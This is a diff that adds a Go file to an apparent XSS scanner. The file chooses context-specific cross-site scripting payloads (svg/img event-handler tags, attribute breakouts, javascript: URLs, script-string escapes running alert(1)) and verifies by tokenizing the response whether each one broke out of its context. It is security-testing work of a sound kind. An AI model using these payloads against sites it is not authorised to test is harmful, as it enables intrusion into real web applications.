@@ -0,0 +1,179 @@
+package xss
+
+import (
+	"bytes"
+	"strings"
+
+	"golang.org/x/net/html"
+)
+
+// markToken is replaced by a fresh canary in every payload, so the payload
+// can be found again in the response tokens
+const markToken = "MARK"
+
+// probeChars are reflected once per parameter to see which breakout
+// characters survive output encoding
+const probeChars = `'"<>;:()`
+
+// How a payload proves it left its context
+const (
+	verifyTag    = iota // new element or attribute carrying the mark and an event handler
+	verifyURL           // javascript: URL carrying the mark
+	verifyScript        // payload reflected verbatim and ending up in script code
+)
+
+type payload struct {
+	Template string
+	Verify   int
+}
+
+func (p payload) render(mark string) string {
+	return strings.ReplaceAll(p.Template, markToken, mark)
+}
+
+const (
+	svgTag = "<svg/data-bv=MARK onload=alert(1)>"
+	imgTag = "<img src=x data-bv=MARK onerror=alert(1)>"
+)
+
+// payloadsFor returns only payloads able to break out of r
+func payloadsFor(r reflection) []payload {
+	q := string(r.Quote)
+
+	switch r.Context {
+	case ctxElement:
+		prefix := ""
+		if r.Tag != "" {
+			prefix = "</" + r.Tag + ">"
+		}
+		return []payload{
+			{prefix + svgTag, verifyTag},
+			{prefix + imgTag, verifyTag},
+		}
+	case ctxAttributeQuoted:
+		return []payload{
+			{q + " data-bv=MARK autofocus onfocus=alert(1) x=" + q, verifyTag},
+			{q + ">" + svgTag, verifyTag},
+		}
+	case ctxAttributeUnquote:
+		return []payload{
+			{"x data-bv=MARK autofocus onfocus=alert(1)", verifyTag},
+			{">" + svgTag, verifyTag},
+		}
+	case ctxURLAttribute:
+		return []payload{
+			{"javascript:alert(1)//MARK", verifyURL},
+		}
+	case ctxComment:
+		return []payload{
+			{"-->" + svgTag, verifyTag},
+		}
+	case ctxScriptString:
+		return []payload{
+			{q + ";alert(1);//MARK", verifyScript},
+			{"</script>" + svgTag, verifyTag},
+		}
+	case ctxScript:
+		return []payload{
+			{";alert(1);//MARK", verifyScript},
+			{"</script>" + svgTag, verifyTag},
+		}
+	}
+	return nil
+}
+
+// verify reports whether value, rendered with mark, changed the structure of
+// the document rather than just being echoed as data
+func (p payload) verify(body []byte, mark, value string) bool {
+	z := html.NewTokenizer(bytes.NewReader(body))
+	inScript := false
+	for {
+		tt := z.Next()
+		switch tt {
+		case html.ErrorToken:
+			return false
+
+		case html.StartTagToken, html.SelfClosingTagToken:
+			name, hasAttr := z.TagName()
+			inScript = tt == html.StartTagToken && string(name) == "script"
+
+			var marked, handler, jsURL bool
+			for hasAttr {
+				var k, v []byte
+				k, v, hasAttr = z.TagAttr()
+				key, val := string(k), string(v)
+				switch {
+				case key == "data-bv" && val == mark:
+					marked = true
+				case strings.HasPrefix(key, "on"):
+					handler = true
+				case urlAttrs[key] && strings.Contains(val, mark) &&
+					strings.HasPrefix(strings.ToLower(strings.TrimSpace(val)), "javascript:"):
+					jsURL = true
+				}
+			}
+			if p.Verify == verifyTag && marked && handler {
+				return true
+			}
+			if p.Verify == verifyURL && jsURL {
+				return true
+			}
+
+		case html.TextToken:
+			if inScript && p.Verify == verifyScript {
+				text := string(z.Raw())
+				// The code part starts after any leading quote; it must not be
+				// inside a string or comment once the quote is consumed
+				lead := len(value) - len(strings.TrimLeft(value, `'"`+"`"))
+				for _, idx := range indexAll(text, value) {
+					if scriptQuote(text[:idx+lead]) == 0 {
+						return true
+					}
+				}
+			}
+
+		default:
+			inScript = false
+		}
+	}
+}
+
+// survivingChars returns the probeChars that came back unencoded in the
+// best reflection of canary+probeChars+canary
+func survivingChars(body []byte, canary string) string {
+	s := string(body)
+	best := ""
+	idx := indexAll(s, canary)
+	for i := 0; i+1 < len(idx); i++ {
+		segment := s[idx[i]+len(canary) : idx[i+1]]
+		if len(segment) > 8*len(probeChars) {
+			continue // not our pair
+		}
+
+		var kept strings.Builder
+		for _, c := range probeChars {
+			if strings.ContainsRune(segment, c) {
+				kept.WriteRune(c)
+			}
+		}
+		if kept.Len() > len(best) {
+			best = kept.String()
+		}
+	}
+	return best
+}
+
+// survival is the fraction of r's breakout characters that survived
+func survival(r reflection, survived string) float64 {
+	need := r.breakout()
+	if need == "" {
+		return 1
+	}
+	n := 0
+	for _, c := range need {
+		if strings.ContainsRune(survived, c) {
+			n++
+		}
+	}
+	return float64(n) / float64(len(need))
+}